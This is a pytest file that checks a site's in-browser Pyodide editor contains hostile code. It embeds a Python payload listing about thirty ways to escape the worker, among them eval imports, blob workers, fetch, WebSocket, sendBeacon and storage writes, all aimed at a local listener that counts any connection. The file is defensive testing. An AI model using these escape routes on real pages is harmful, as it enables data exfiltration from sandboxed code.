"""The page's Python reaches nothing but its panel, whatever the reader types into the editor.

Hostile code replaces the example's app and tries every way out of its
worker towards a listener on another local port, which counts every
connection (TCP) and datagram (UDP, for WebTransport). Nothing may arrive,
and nothing may be stored in the origin's storage but the page's own copy
of the reader's edit. The site is served first as a plain static server
serves it (no headers: the worker's own lockdown alone), then as a host
that applies ``_headers`` serves it.
"""

from __future__ import annotations

import contextlib
import json
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from playwright.sync_api import Error as PlaywrightError

from tests.support.hosting import hosted
from tests.support.live import READY, replace_file, send
from tests.support.site_checks import static_server

# Each attempt runs in the view; an attempt that returns started something
# (a promise, a worker) whose connection the listener would count.
HOSTILE = """
import contextlib
import json
import socket
import urllib.request

import js
import pyodide.http
import pyodide_js
from flask import Flask
from pyodide.ffi import create_proxy, to_js

app = Flask(__name__)
PORT = {port}
OUT = f"http://127.0.0.1:{{PORT}}"


def options(**values):
    return to_js(values, dict_converter=js.Object.fromEntries)


def blob(code):
    return js.URL.createObjectURL(js.Blob.new(to_js([code]), options(type="text/javascript")))


def store_in_opfs(folder):
    return folder.getFileHandle("stolen", options(create=True))


ATTEMPTS = {{
    "eval import()": lambda: js.eval(f"import('{{OUT}}/eval')"),
    "Function import()": lambda: js.Function.new(f"return import('{{OUT}}/function')")(),
    "a function's constructor": lambda: js.Object.getPrototypeOf(js.setTimeout)
    .constructor.new(f"return import('{{OUT}}/constructor')")(),
    "an async function's constructor": lambda: js.Object.getPrototypeOf(pyodide_js.loadPackage)
    .constructor.new(f"await import('{{OUT}}/async-constructor')")(),
    "setTimeout with text": lambda: js.setTimeout(f"import('{{OUT}}/timeout')", 0),
    "setInterval with text": lambda: js.setInterval(f"import('{{OUT}}/interval')", 1000),
    "blob worker": lambda: js.Worker.new(blob(f"fetch('{{OUT}}/blob-worker')")),
    "module blob worker": lambda: js.Worker.new(
        blob(f"import '{{OUT}}/module-worker'"), options(type="module")
    ),
    "data: worker": lambda: js.Worker.new(f"data:text/javascript,fetch('{{OUT}}/data-worker')"),
    "shared worker": lambda: js.SharedWorker.new(blob(f"fetch('{{OUT}}/shared-worker')")),
    "fetch": lambda: js.fetch(f"{{OUT}}/fetch"),
    "XMLHttpRequest": lambda: js.XMLHttpRequest.new().open("GET", f"{{OUT}}/xhr"),
    "WebSocket": lambda: js.WebSocket.new(f"ws://127.0.0.1:{{PORT}}/"),
    "WebSocketStream": lambda: js.WebSocketStream.new(f"ws://127.0.0.1:{{PORT}}/"),
    "EventSource": lambda: js.EventSource.new(f"{{OUT}}/events"),
    "WebTransport": lambda: js.WebTransport.new(f"https://127.0.0.1:{{PORT}}/"),
    "FontFace": lambda: js.FontFace.new("stolen", f"url({{OUT}}/font)").load(),
    "fonts": lambda: js.fonts.add(js.FontFace.new("stolen", f"url({{OUT}}/fonts)")),
    "importScripts": lambda: js.importScripts(f"{{OUT}}/import-scripts"),
    "sendBeacon": lambda: js.navigator.sendBeacon(f"{{OUT}}/beacon"),
    "BroadcastChannel": lambda: js.BroadcastChannel.new("contained").postMessage("out"),
    "Pyodide's loadPackage": lambda: pyodide_js.loadPackage(f"{{OUT}}/package.whl"),
    "Pyodide's open_url": lambda: pyodide.http.open_url(f"{{OUT}}/open-url"),
    "pyfetch": lambda: pyodide.http.pyfetch(f"{{OUT}}/pyfetch").send(None),
    "socket": lambda: socket.create_connection(("127.0.0.1", PORT), timeout=1),
    "urllib": lambda: urllib.request.urlopen(f"{{OUT}}/urllib", timeout=1),
    "OPFS": lambda: js.navigator.storage.getDirectory().then(create_proxy(store_in_opfs)),
    "indexedDB": lambda: js.indexedDB.open("stolen"),
    "caches": lambda: js.caches.open("stolen"),
    "localStorage": lambda: js.localStorage.setItem("stolen", "yes"),
}}


@app.get("/")
def escape():
    results = {{}}
    for name, attempt in ATTEMPTS.items():
        try:
            attempt()
            results[name] = "started"
        except BaseException as error:
            results[name] = f"{{type(error).__name__}}: {{error}}"[:200]
    return json.dumps(results)
"""

ATTEMPTS_FROM_TEXT = [
    "eval import()",
    "Function import()",
    "a function's constructor",
    "an async function's constructor",
    "setTimeout with text",
    "setInterval with text",
]

# The prefix of every key the site's own pages keep in localStorage (theme/static/js/storage.js).
SITE_KEYS = "how-webservers-work:"
STORED = """async () => {
    const opfs = [];
    for await (const name of (await navigator.storage.getDirectory()).keys()) opfs.push(name);
    return {
        opfs,
        indexedDB: (await indexedDB.databases()).map((d) => d.name),
        caches: await caches.keys(),
        localStorage: Object.keys(localStorage),
    };
}"""


class Listener:
    """A TCP and a UDP socket on one free port of 127.0.0.1, counting what reaches them."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.connections = 0
        self.datagrams = 0

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self.tcp.accept()
            except OSError:
                return
            self.connections += 1
            connection.close()

    def _receive(self) -> None:
        while True:
            try:
                self.udp.recv(65536)
            except OSError:
                return
            self.datagrams += 1

    @property
    def received(self) -> int:
        return self.connections + self.datagrams


@contextmanager
def listening() -> Iterator[Listener]:
    listener = Listener()
    for target in (listener._accept, listener._receive):
        threading.Thread(target=target, daemon=True).start()
    try:
        yield listener
    finally:
        listener.tcp.close()
        listener.udp.close()


@pytest.fixture(params=["plain", "with _headers"])
def served(request, site):
    serve = static_server if request.param == "plain" else hosted
    with serve(site) as origin:
        yield origin


def test_hostile_python_reaches_no_other_port_and_stores_nothing(served, browser):
    context = browser.new_context()
    page = context.new_page()
    with listening() as listener:
        page.goto(served + "/flask-webserver/", wait_until="networkidle")
        page.evaluate("""() => {
            window.broadcasts = 0;
            new BroadcastChannel("contained").onmessage = () => window.broadcasts++;
        }""")
        # The listener does hear this browser: a page of its own reaches it.
        control = context.new_page()
        with contextlib.suppress(PlaywrightError):
            control.goto(f"http://127.0.0.1:{listener.port}/")
        control.close()
        assert listener.connections >= 1, "the control request reached the listener"
        listener.connections = 0

        exchange = page.locator(".exchange").first
        exchange.locator(".live-run").click()
        panel = exchange.locator(".live-panel")
        panel.wait_for()
        page.wait_for_function(READY, arg=panel.element_handle(), timeout=90_000)
        replace_file(page, panel, HOSTILE.format(port=listener.port))
        status, body, shown = send(page, panel)
        assert status == "200", shown
        results = json.loads(body)
        # Whatever was started has time to connect.
        page.wait_for_timeout(3_000)
        assert listener.received == 0, results
        assert page.evaluate("window.broadcasts") == 0
        stored = page.evaluate(STORED)
        # The page itself keeps the reader's edit (the hostile app) in localStorage; nothing else.
        kept = stored.pop("localStorage")
        assert [key.partition("edits:")[0] for key in kept] == [SITE_KEYS], kept
        assert stored == {"opfs": [], "indexedDB": [], "caches": []}
        # Code from text is refused outright, not merely cut off from the network.
        assert all(
            results[name].startswith("JsException: EvalError") for name in ATTEMPTS_FROM_TEXT
        ), results
    context.close()
